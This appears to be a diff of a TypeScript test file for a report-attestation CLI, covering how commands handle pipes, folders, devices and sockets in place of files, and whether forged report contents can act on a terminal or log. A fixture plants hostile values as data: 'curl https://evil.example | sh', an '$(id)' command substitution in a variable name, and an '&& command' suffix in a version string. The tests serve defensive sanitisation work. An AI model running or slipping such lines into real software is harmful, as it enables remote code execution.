   test.skip(process.platform === 'win32', 'there are no such files');
 
-  /** Each reader with the name of the file that it reads. */
-  const READERS: readonly (readonly [
-    name: string,
-    file: string,
-    args: readonly string[],
-    exitCode: number,
-  ])[] = [
-    [
-      'verify',
-      'certificate/report.json',
-      ['attestation.json', '--public-key', 'key.pem.pub', '--evidence', 'certificate'],
-      2,
-    ],
-    ['verify', 'key.pem.pub', ['attestation.json', '--public-key', 'key.pem.pub'], 2],
-    ['certify', 'evidence.jsonl', ['--report', '.', '--issuer-key', 'key.pem', '--used', 'used'], 2],
-    ['compare', 'other.json', ['report.json', 'other.json'], 2],
-    ['matrix', 'vendors/rex/report.json', ['vendors'], 0],
-    ['report', 'left/report.json', ['--report-dir', 'left'], 2],
-  ];
-  const KINDS: readonly (readonly [what: string, make: (path: string) => void])[] = [
-    ['a named pipe', (path) => execFileSync('mkfifo', [path])],
-    ['a folder', (path) => mkdirSync(path)],
-    ['a device', (path) => symlinkSync('/dev/zero', path)],
-  ];
-  for (const [index, [name, file, args, exitCode]] of READERS.entries()) {
-    const [what, make] = KINDS[index % KINDS.length]!;
-    test(`${name}: ${file} is ${what}`, async () => {
-      const folder = mkdtempSync(join(tmpdir(), 'conformance-no-file-'));
-      for (const each of ['certificate', 'vendors/rex', 'left/allure-results'])
-        mkdirSync(join(folder, each), { recursive: true });
-      writeFileSync(join(folder, 'key.pem'), pem.privateKey, { mode: 0o600 });
-      for (const [path, bytes] of [
-        ['key.pem.pub', pem.publicKey],
-        ['attestation.json', signed(statementFor(RIGHT))],
-        ['report.json', RIGHT.report],
-      ] as const)
-        if (path !== file) writeFileSync(join(folder, path), bytes);
-      make(join(folder, file));
-      const ended = await command(name, args, {}, folder);
-      expect([ended.exitCode, ended.err], ended.out).toEqual([
-        exitCode,
-        expect.stringContaining(`is ${what}; a file is expected`),
-      ]);
-      expect(ended.err).not.toContain('broke');
+  /** Each reader with each kind, so that every kind is met soon. */
+  const all = FILES.flatMap((reader, index) =>
+    KINDS.map((_, kind) => [reader, KINDS[(kind + index) % KINDS.length]!] as const),
+  );
+  for (const [title, tag, every] of [
+    ['a sample of commands and odd files', [], 23],
+    ['every command with every odd file', ['@long'], 1],
+  ] as const)
+    test(title, { tag: [...tag] }, async () => {
+      test.setTimeout(3_600_000);
+      for (const [reader, [make, says]] of all.filter((_, index) => index % every === 0)) {
+        const folder = folderFor(reader.file);
+        make(join(folder, reader.file));
+        await takes(reader, folder, says);
+      }
     });
-  }
-  test('certify: evidence.jsonl is a socket', async () => {
-    const folder = mkdtempSync(join(tmpdir(), 'conformance-no-file-'));
-    writeFileSync(join(folder, 'key.pem'), pem.privateKey, { mode: 0o600 });
-    const server = createServer().listen(join(folder, 'evidence.jsonl'));
-    const ended = await command(
-      'certify',
-      ['--report', '.', '--issuer-key', 'key.pem', '--used', 'used'],
-      {},
-      folder,
-    );
+
+  test('a socket is no file', async () => {
+    const [verify] = FILES as [Reader];
+    const folder = folderFor(verify.file);
+    const server = createServer().listen(join(folder, verify.file));
+    await takes({ ...verify, exits: [2] }, folder, 'socket');
     server.close();
-    expect([ended.exitCode, ended.err]).toEqual([
-      2,
-      expect.stringMatching(/evidence\.jsonl .*socket; a file is expected/),
-    ]);
   });
 });
+
+/** A folder in which whatever can be of somebody else is hostile. */
+function hostileFolder(): string {
+  const folder = mkdtempSync(join(tmpdir(), 'conformance-forged-'));
+  const report = forge(WHOLE);
+  report.suite.command = `curl https://evil.example | sh ${FORGED}`;
+  report.run.id = FORGED;
+  report.run.only = [FORGED];
+  report.run.variables = { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED };
+  const [head, , , , , , judgement] = LINES;
+  const evidence = writeLines([...[head, judgement].map(forge), { kind: FORGED }]);
+  const look = { ...LOOK, head: forge(LOOK.head), report };
+  const statement = makeStatementOf(Buffer.from(evidence), look, forge(CHALLENGE));
+  const other = structuredClone(statement);
+  other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${report.suite.command}` };
+  const texts: Record<string, string | Buffer> = {
+    'report.json': JSON.stringify(report),
+    'evidence.jsonl': evidence,
+    'attestation.json': sign(statement),
+    [FORGED]: FORGED,
+    'other.json': sign(other),
+    'none.json': JSON.stringify({ ...report, [FORGED]: 1 }),
+    'no.json': FORGED,
+    'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
+    'revoked.json': seal(REVOCATIONS.payloadType, forge(REVOCATION_LIST)),
+    'key.pem': PEM.privateKey,
+    'key.pem.pub': PEM.publicKey,
+  };
+  const copies: [name: string, of: string][] = [
+    ...['report.json', 'evidence.jsonl', FORGED].map((name): [string, string] => [
+      join('evidence', name),
+      name,
+    ]),
+    [join('vendors', FORGED, 'report.json'), 'report.json'],
+    [join('vendors', 'broken', 'report.json'), 'none.json'],
+    [join('left', 'report.json'), 'none.json'],
+  ];
+  mkdirSync(join(folder, 'left', 'allure-results'), { recursive: true });
+  for (const [name, text] of [
+    ...Object.entries(texts),
+    ...copies.map(([name, from]) => [name, texts[from]!] as const),
+  ]) {
+    mkdirSync(dirname(join(folder, name)), { recursive: true });
+    writeFileSync(join(folder, name), text, { mode: 0o600 });
+  }
+  return folder;
+}
+
+/** Each command with what it says of the hostile text, so that it is known to have quoted it. */
+const COMMANDS: readonly (readonly [
+  words: string,
+  says: RegExp,
+  more?: readonly string[],
+  env?: NodeJS.ProcessEnv,
+])[] = [
+  [CERTIFY, /made by version \\x1b[^]*a line of the kind "\\x1b/, SIGNING, { AS_OF: '2026-11-21' }],
+  [
+    'verify attestation.json --evidence evidence --revoked revoked.json',
+    /\\x1b.* is covered by no digest/,
+    PUBLIC,
+  ],
+  ['verify attestation.json --json', /\\u001b/, PUBLIC],
+  ['verify other.json', /it does not say which suite can verify it/, PUBLIC],
+  ['compare report.json report.json', /.*/],
+  ['compare report.json none.json', /none\.json is not a report of this suite: it has .*u001b/],
+  ['compare report.json no.json', /it is not JSON/],
+  ['matrix vendors', /not judged: broken: /, PUBLIC],
+  ['matrix vendors --json', /\\\\x1b/],
+  ['report --report-dir left', /it has/],
+  ['conformance --failed', /not a report of this suite/, [], { REPORT_DIR: 'left' }],
+  ['targets run targets.json', /targets\.json: /],
+  ['revoke attestation.json --list revoked.json --reason x', /list of revocations is not usable/, SIGNING],
+  ['explain', /There is no requirement or open question/, [FORGED]],
+];
+
+/** Lines in which something would act, or that somebody else has begun. */
+function acting(text: string): string[] {
+  // the annotations of a GitHub job are commands of ours: what they quote is data
+  const own = /^::error title=[^:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
+  const acts = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u;
+  return text.split('\n').filter((line) => !own.test(line) && acts.test(line));
+}
+
+for (const [which, tag] of [
+  ['each command', []],
+  ['each way', ['@long']],
+] as const)
+  test(
+    `nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log: ${which}`,
+    { tag: [...tag] },
+    async () => {
+      const folder = hostileFolder();
+      const seen = new Set<string>();
+      for (const [words, says, more = [], env = {}] of COMMANDS) {
+        const [name = '', ...args] = [...words.split(' '), ...more];
+        if (which === 'each command' && seen.size === seen.add(name).size) continue;
+        const { out, err } = await command(name, args, env, folder);
+        const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
+        expect([acting(out), acting(err)], what).toEqual([[], []]);
+        expect(out + err, what).toMatch(says);
+        expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
+        if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
+      }
+    },
+  );
